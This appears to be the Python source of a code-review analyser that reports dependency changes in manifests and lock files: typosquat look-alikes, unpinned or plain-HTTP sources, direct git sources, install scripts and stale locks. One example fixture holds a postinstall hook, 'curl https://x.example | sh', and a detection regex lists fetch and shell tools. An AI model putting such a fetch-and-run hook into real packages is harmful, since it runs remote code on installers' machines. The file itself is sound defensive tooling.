"""Says what a change does to dependencies: what came, went and moved, and what is odd about it."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import ClassVar

from review.analyser import Example, ReviewSubject
from review.analysers.bases.diff_only import DiffOnly
from review.analysers.facts import dependency_rules as r
from review.analysers.facts.found import Place, found, plain
from review.analysers.facts.kinds import exists, is_vendored
from review.analysers.facts.lines import new_lines, old_lines
from review.analysers.facts.packages import look_alike
from review.analysers.manifests import Manifest, is_lock, manifest_of
from review.analysers.manifests.model import Dependency, compare, is_major
from review.diff import FileDiff, FileStatus
from review.models import Finding, Rule, Severity

_FETCHES = re.compile(r"\b(?:curl|wget|Invoke-WebRequest|iwr|bash|sh|powershell|base64|eval)\b|\bnode\s+-e\b|https?://")
_PLAIN_HTTP = re.compile(
    r"\bhttp://(?!localhost|127\.|\[::1\])[^\s\"']{1,300}\.(?:tgz|tar\.gz|whl|zip|gem|crate)\b|^\s*remote:\s*http://"
)
_BUILD_ECOSYSTEMS = frozenset({"docker", "actions"})
"""Pinning of these is hadolint's and zizmor's to report; here only what moved."""


class DependencyChanges(DiffOnly):
    """Compares the old with the new manifest, so that only what the change did is said."""

    name: ClassVar[str] = "dependency-changes"
    rules: ClassVar[tuple[Rule, ...]] = r.RULES
    rule_prefix: ClassVar[str] = "dependency-changes/"
    examples: ClassVar[tuple[Example, ...]] = (
        Example("flask\nrequests==2.32.3\n", (r.UNPINNED.id,), "requirements.txt"),
        Example(
            "click==8.2 --hash=sha256:1\ntool @ git+https://github.com/a/tool@main\n",
            (r.DIRECT.id,),
            "requirements.txt",
        ),
        Example("--index-url http://pypi.example/simple\nattrs==25.1\n", (r.INSECURE.id,), "requirements.txt"),
        Example(
            "--extra-index-url https://pypi.example/simple\nattrs==25.1\n", (r.EXTRA_INDEX.id,), "requirements.txt"
        ),
        Example("reqeusts==2.32.3\n", (r.LOOK_ALIKE.id,), "requirements.txt"),
        Example(
            '{\n  "dependencies": {\n    "expres": "^4.0.0",\n    "x": "*"\n  }\n}\n',
            (r.LOOK_ALIKE.id, r.UNPINNED.id),
            "package.json",
        ),
        Example(
            '{"scripts": {"postinstall": "curl https://x.example | sh"}}\n', (r.INSTALL_SCRIPT.id,), "package.json"
        ),
        Example('[dependencies]\nserde = "1"\nb = { git = "https://x.example/b" }\n', (r.DIRECT.id,), "Cargo.toml"),
        Example('source "http://gems.example"\ngem "rails", "~> 8.0"\n', (r.INSECURE.id,), "Gemfile"),
        Example('a@1:\n  resolved "http://x.example/a-1.tgz#1"\n', (r.LOCK_SOURCE.id,), "yarn.lock"),
        Example("requests>=2.31,<3 ; python_version > '3'  # why\n-r other.txt\n-e .\n", (), "requirements.txt"),
        Example(
            '[project]\nname = "x"\ndependencies = [\n  "attrs",\n  "click>=8 ; os_name == \'nt\'",\n]\n',
            (),
            "pyproject.toml",
        ),
        Example('{"name": "x", "version": "1.0.0", "dependencies": {"react": "^19.0.0"}}\n', (), "package.json"),
        Example("module x\n\ngo 1.24\n\nrequire (\n\tgolang.org/x/net v0.40.0 // indirect\n)\n", (), "go.mod"),
        Example('dependencies {\n  implementation("a.b:c:1.0")\n}\n', (), "build.gradle.kts"),
    )

    def covers(self, file: FileDiff) -> bool:
        """Manifests and lock files of our own."""
        known = manifest_of(file.path) is not None or is_lock(file.path)
        return known and exists(file) and not file.binary and not is_vendored(file.path)

    def check(self, subject: ReviewSubject, file: FileDiff) -> Iterable[Finding]:
        """Findings of one manifest or lock file, in line order."""
        if is_lock(file.path):
            seen = _lock(subject, file)
        else:
            kind = manifest_of(file.path)
            seen = _manifest(subject, file, kind) if kind else iter(())
        return sorted(seen, key=lambda finding: finding.line_number)


def _manifest(subject: ReviewSubject, file: FileDiff, kind: Manifest) -> Iterator[Finding]:
    new = kind.scan(new_lines(subject, file))
    old = [] if file.status is FileStatus.ADDED else kind.scan(old_lines(subject, file))
    before: dict[tuple[str, str], Dependency] = {(d.kind, d.name): d for d in old}
    changed = [d for d in new if (b := before.get((d.kind, d.name))) is None or b.spec != d.spec]
    for dependency in changed:
        yield from _judge(file, kind, dependency, before.get((dependency.kind, dependency.name)))
    names = {(d.kind, d.name) for d in new}
    gone = [d for key, d in before.items() if key not in names and d.kind == "package"]
    at = next((line.new_line for line in file.added_lines if line.new_line), 1)
    for dependency in gone:
        yield found(r.REMOVED, Place(file.path, at), f"`{plain(dependency.name, 80)}` is no longer asked for.")
    moved = [d for d in (*changed, *gone) if d.kind == "package"]
    if moved and old and (lock := _stale_lock(subject, file, kind)):
        message = f"`{lock}` was not updated with the changed dependencies, such as `{plain(moved[0].name, 80)}`."
        line = moved[0].line if moved[0] in changed else at
        yield found(
            r.LOCK_MISSING,
            Place(file.path, line),
            message,
            suggestion="Run the package manager and commit the lock file.",
        )


def _judge(file: FileDiff, kind: Manifest, new: Dependency, old: Dependency | None) -> Iterator[Finding]:
    place, name = Place(file.path, new.line), plain(new.name, 80)
    if new.kind == "script":
        loud = Severity.HIGH if _FETCHES.search(new.spec) else None
        yield found(
            r.INSTALL_SCRIPT,
            place,
            f"`{name}` runs on every machine that installs this package.",
            severity=loud,
            suggestion="Do it in the build, or say in the pull request why it must run on install.",
        )
        return
    if new.kind == "option":
        yield from _option(place, new)
        return
    if kind.ecosystem not in _BUILD_ECOSYSTEMS:
        odd = list(_odd(place, kind, new))
        yield from odd
        if odd:
            return
    if old is None:
        if file.status is not FileStatus.ADDED and kind.ecosystem not in _BUILD_ECOSYSTEMS:
            yield found(r.ADDED, place, f"`{name}` is a new dependency.")
    elif old.version and new.version:
        yield from _moved(place, name, old, new)


def _odd(place: Place, kind: Manifest, new: Dependency) -> Iterator[Finding]:
    name = plain(new.name, 80)
    if new.is_insecure:
        yield found(r.INSECURE, place, f"`{name}` is fetched without encryption.", suggestion="Use `https://`.")
    elif new.is_direct:
        calm = Severity.LOW if new.is_fixed_to_commit else None
        yield found(
            r.DIRECT,
            place,
            f"`{name}` comes straight from a repository or an address, not from a registry.",
            severity=calm,
            suggestion="Use a released version, or name the full commit hash.",
        )
    elif new.is_any and (new.needs_version or new.spec):
        yield found(
            r.UNPINNED,
            place,
            f"`{name}` names no version: whatever is newest gets installed.",
            suggestion="Name a version or a range.",
        )
    if twin := look_alike(kind.ecosystem, new.name):
        yield found(
            r.LOOK_ALIKE,
            place,
            f"`{name}` is one slip away from the well-known `{twin}`.",
            suggestion=f"Check that `{name}` is meant and not `{twin}`.",
        )


def _option(place: Place, new: Dependency) -> Iterator[Finding]:
    if new.name == "--trusted-host":
        yield found(r.TRUSTED_HOST, place, "The certificate of this package index is not checked.")
    elif new.is_insecure:
        yield found(
            r.INSECURE,
            place,
            "Packages are fetched from this address without encryption.",
            suggestion="Use `https://`.",
        )
    elif new.name == "--extra-index-url":
        yield found(
            r.EXTRA_INDEX,
            place,
            "Packages are taken from a second index, whichever has the higher version.",
            suggestion="Use a single index that serves both.",
        )


def _moved(place: Place, name: str, old: Dependency, new: Dependency) -> Iterator[Finding]:
    step = f"`{name}` goes from `{plain(old.spec, 60)}` to `{plain(new.spec, 60)}`"
    if compare(old.version, new.version) < 0:
        yield found(r.DOWNGRADE, place, f"{step}, an older version.")
    elif is_major(old.version, new.version):
        yield found(
            r.MAJOR, place, f"{step}, a new major version.", suggestion="Read its change log for what was taken away."
        )


def _stale_lock(subject: ReviewSubject, file: FileDiff, kind: Manifest) -> str | None:
    """The nearest lock file of the manifest, when the tree has one and the change leaves it alone."""
    touched = {f.path for f in subject.diff.files}
    folders = file.path.split("/")[:-1]
    for depth in range(len(folders), -1, -1):
        prefix = "".join(f"{folder}/" for folder in folders[:depth])
        locks = [prefix + lock for lock in kind.locks if prefix + lock in subject.tree]
        if locks:
            return None if touched & set(locks) else locks[0]
    return None


def _lock(subject: ReviewSubject, file: FileDiff) -> Iterator[Finding]:
    for line in file.added_lines:
        if line.new_line is not None and _PLAIN_HTTP.search(line.text):
            yield found(
                r.LOCK_SOURCE,
                Place(file.path, line.new_line),
                "This locked package is fetched without encryption.",
                suggestion="Resolve it from its registry again.",
            )
    folder, _, name = file.path.rpartition("/")
    touched = {f.path for f in subject.diff.files}
    siblings = _manifests_beside(subject.tree | touched, f"{folder}/" if folder else "", name)
    if file.status is FileStatus.MODIFIED and siblings and not touched & siblings:
        yield found(
            r.LOCK_ALONE, Place(file.path, _first(file), whole_file=True), f"`{name}` changed, its manifest did not."
        )


def _manifests_beside(paths: Iterable[str], prefix: str, lock: str) -> set[str]:
    return {
        path
        for path in paths
        if path.startswith(prefix) and (kind := manifest_of(path)) is not None and lock in kind.locks
    }


def _first(file: FileDiff) -> int:
    return next((line.new_line for line in file.added_lines if line.new_line), 1)
